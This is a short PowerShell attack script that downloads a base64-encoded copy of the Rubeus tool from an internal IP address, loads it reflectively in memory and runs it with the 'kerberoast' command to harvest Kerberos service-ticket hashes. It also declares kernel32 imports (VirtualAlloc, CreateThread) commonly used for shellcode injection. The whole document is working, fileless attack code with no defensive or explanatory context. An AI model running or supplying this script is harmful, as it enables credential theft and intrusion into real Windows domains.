$sig = @"
using System;
using System.Runtime.InteropServices;
public class K32 {
    [DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
    [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);
    [DllImport("kernel32")] public static extern uint WaitForSingleObject(IntPtr h, uint ms);
}
"@
Add-Type -TypeDefinition $sig

$url = 'http://172.16.4.20/rubeus.b64'
$asm = [System.Reflection.Assembly]::Load([Convert]::FromBase64String((New-Object Net.WebClient).DownloadString($url)))
$asm.EntryPoint.Invoke($null, @(, [string[]]@('kerberoast', '/nowrap')))
